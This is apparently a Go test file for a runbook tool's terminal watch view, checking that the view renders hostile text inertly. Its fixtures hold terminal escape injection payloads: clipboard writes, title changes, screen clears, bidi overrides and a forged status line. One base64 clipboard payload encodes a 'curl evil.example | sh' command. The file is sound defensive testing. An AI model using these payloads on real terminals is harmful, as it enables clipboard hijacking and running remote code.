package watch

import (
	"context"
	"errors"
	"strings"
	"testing"
	"time"

	tea "github.com/charmbracelet/bubbletea"

	"runway/runbook/session"
	"runway/ui/inert"
)

// evil is what a command, a host name or an error could carry to drive the
// terminal or forge a line.
const evil = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\a\x1b]0;pwned\a\x1b[2J\x1bc\x1bP+q\x1b\\" +
	"\u009b2J\u202eevil\u202c\nphase p / item name passed\x1bE"

// hostileRunbook's command prints a clipboard write, a title and a clear.
const hostileRunbook = `
version: 1
name: watched
title: "A watched change\e]0;pwned\a"
phases:
  - id: prep
    title: Preparation
    risk: low
    expected: 1h
    items:
      - {id: out, title: Output, command: {run: "printf '\\033]52;c;Y3VybA==\\a\\033]0;pwned\\a\\033[2J\\nphase p / item name passed\\n'"}}
`

// TestWatchShowsOutsideTextInert watches a session whose command printed
// terminal escapes, with hostile words in the driver's status and a read
// error: no screen may drive the terminal, and each keeps its size.
func TestWatchShowsOutsideTextInert(t *testing.T) {
	d := startDriver(t, t.TempDir(), hostileRunbook)
	d.do(t, session.RunPhase{Phase: "prep"})
	src, err := Open(context.Background(), d.path, d.sess.ID(), Options{Every: 20 * time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	defer src.Close()
	eventually(t, "caught up", func() bool { return caughtUp(src, d.sess) })
	at := time.Date(2026, 3, 1, 14, 3, 22, 0, time.Local)
	m := New(src, ModelOptions{Renderer: asciiRenderer(), AuditPath: d.path + evil, Now: func() time.Time { return at }})
	defer m.Release()
	next, _ := m.Update(tea.WindowSizeMsg{Width: 100, Height: 30})
	m = next.(Model)
	msgs := []driverMsg{
		{d: DriverStatus{State: DriverRunning, PID: 1, Host: "db1" + evil}},
		{d: DriverStatus{State: DriverClosed, Closed: "passed" + evil, At: at}},
		{d: DriverStatus{State: DriverUnknown, Why: "why" + evil}},
		{d: DriverStatus{State: DriverRunning, PID: 1, Host: "db1"}, readErr: errors.New("disk" + evil)},
	}
	for _, msg := range msgs {
		msg.last, msg.at = at, at
		next, _ := m.Update(msg)
		view := next.(Model).View()
		if msg := inert.Problem(view, true); msg != "" {
			t.Fatalf("%s in\n%s", msg, view)
		}
		if lines := strings.Split(view, "\n"); len(lines) != 30 {
			t.Fatalf("%d lines, want 30:\n%s", len(lines), view)
		}
		if !strings.Contains(view, `\x1b]0;pwned\x07`) {
			t.Fatalf("the command's output is not shown, escaped:\n%s", view)
		}
	}
}
